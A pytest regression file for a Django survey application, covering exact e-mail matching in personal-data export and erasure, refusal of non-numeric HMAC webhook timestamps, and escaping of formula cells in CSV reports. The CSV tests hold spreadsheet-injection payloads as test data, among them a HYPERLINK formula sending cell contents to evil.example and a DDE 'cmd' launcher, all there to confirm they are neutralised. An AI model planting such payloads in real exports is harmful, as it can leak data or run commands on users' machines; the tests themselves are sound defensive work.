"""Issue #20 findings about personal data and ingest: each test failed before its fix.

- Personal-data export and erasure matched failed deliveries by substring.
- The generic HMAC adapter skipped its timestamp window for a non-numeric timestamp.
- Report CSVs wrote formula cells unchanged."""

from __future__ import annotations

import json

import pytest

from tests.factories import (
    CustomerFactory,
    WebhookDeliveryFactory,
    WebhookSourceFactory,
)

pytestmark = pytest.mark.django_db


# --- personal data: exact e-mail match ------------------------------------------------------------


def _failed(source, delivery_id: str, email: str):
    from surveys.models import WebhookDelivery

    return WebhookDeliveryFactory(
        source=source, delivery_id=delivery_id, status=WebhookDelivery.Status.FAILED, error="bad nps",
        body=json.dumps({"respondent": {"email": email}, "nps": "x"}).encode(),
    )


@pytest.fixture
def bo_and_jimbo(db):
    source = WebhookSourceFactory(slug="typeform-f", name="Typeform F")
    bo = CustomerFactory(email="bo@example.com", external_id="crm-bo")
    jimbo = CustomerFactory(email="jimbo@example.com", external_id="crm-jimbo")
    return bo, _failed(source, "bo-1", "BO@example.com"), _failed(source, "jimbo-1", "jimbo@example.com"), jimbo


def test_export_returns_only_the_failed_delivery_with_exactly_that_email(bo_and_jimbo):
    from privacy.services import customer_export

    bo, bo_delivery, jimbo_delivery, _ = bo_and_jimbo
    data = customer_export(customer_id=bo.pk)
    assert [d["delivery_id"] for d in data["webhook_deliveries"]] == ["bo-1"]


def test_erase_leaves_the_failed_delivery_of_a_longer_address_alone(bo_and_jimbo):
    from privacy.services import customer_erase
    from surveys.models import WebhookDelivery

    bo, bo_delivery, jimbo_delivery, _ = bo_and_jimbo
    jimbo_body = bytes(jimbo_delivery.body)
    customer_erase(customer_id=bo.pk)
    assert bytes(WebhookDelivery.objects.get(pk=bo_delivery.pk).body) == b""
    assert bytes(WebhookDelivery.objects.get(pk=jimbo_delivery.pk).body) == jimbo_body


def test_a_form_encoded_failed_delivery_matches_on_the_whole_value(bo_and_jimbo):
    from privacy.services import customer_export

    bo, *_ = bo_and_jimbo
    source = WebhookSourceFactory(slug="form-f", name="Form F")
    WebhookDeliveryFactory(source=source, delivery_id="form-bo", body=b"email=bo@example.com&nps=x", status="failed")
    WebhookDeliveryFactory(source=source, delivery_id="form-jimbo", body=b"email=jimbo@example.com", status="failed")
    data = customer_export(customer_id=bo.pk)
    assert sorted(d["delivery_id"] for d in data["webhook_deliveries"]) == ["bo-1", "form-bo"]


# --- generic HMAC: a non-numeric timestamp is refused ------------------------------------------------


@pytest.mark.parametrize("timestamp", ["yesterday", "1.7e9", "-1700000000"])
def test_generic_hmac_refuses_a_non_numeric_timestamp_and_records_the_refusal(client, timestamp):
    from surveys.adapters import generic
    from surveys.ingest.refusals import sampler
    from surveys.models import RefusedDelivery, WebhookDelivery
    from tests.surveys.payloads import make_source, post

    sampler.forget()  # one refusal row per sender and reason per window: each case starts afresh

    auth = {"mode": "hmac", "header": "X-Sig", "algorithm": "sha256", "encoding": "hex", "timestamp_header": "X-Ts"}
    source = make_source("generic", auth=auth)
    body = json.dumps({"id": "g-ts", "nps": 9}).encode()
    headers = {"HTTP_X_SIG": generic.sign(auth, source.secret, body, timestamp=timestamp), "HTTP_X_TS": timestamp}
    response = post(client, source, body, headers)
    assert response.status_code == 401, response.content
    assert not WebhookDelivery.objects.exists()
    refusal = RefusedDelivery.objects.get()
    assert (refusal.reason, refusal.status) == ("signature", 401)
    assert "X-Ts is not a Unix time" in refusal.detail


# --- report CSVs: formula cells neutralised ----------------------------------------------------------


@pytest.mark.parametrize("text, written", [
    ('=HYPERLINK("https://evil.example/?"&A1,"x")', '\'=HYPERLINK("https://evil.example/?"&A1,"x")'),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-3.5", "-3.5"),  # a plain number stays a number
    ("Late delivery", "Late delivery"),
])
def test_every_csv_cell_that_a_spreadsheet_would_run_is_neutralised(text, written):
    import csv
    import io

    from reporting.tables import Column, Table

    table = Table(name="t", title="T", columns=[Column("a", "A")])
    table.add({"a": text})
    assert list(csv.reader(io.StringIO(table.to_csv()))) == [["A"], [written]]


def test_the_root_cause_export_neutralises_a_formula_in_a_cause_name(client, personas):
    import csv
    import datetime as dt
    import io

    from django.utils import timezone

    from tests.factories import RootCauseCategoryFactory, RootCauseFactory
    from tests.reporting import builders

    now = timezone.now()
    evil = RootCauseFactory(category=RootCauseCategoryFactory(name='=HYPERLINK("https://evil.example","Open")'), name="x")
    builders.case(personas.north, created=now - dt.timedelta(days=2), closed=now - dt.timedelta(days=1), root_cause=evil)
    client.force_login(personas.adam)
    response = client.get("/reports/export/root-causes-pareto.csv")
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert '\'=HYPERLINK("https://evil.example","Open") > x' in cells
    assert not [cell for cell in cells if cell.startswith("=")]
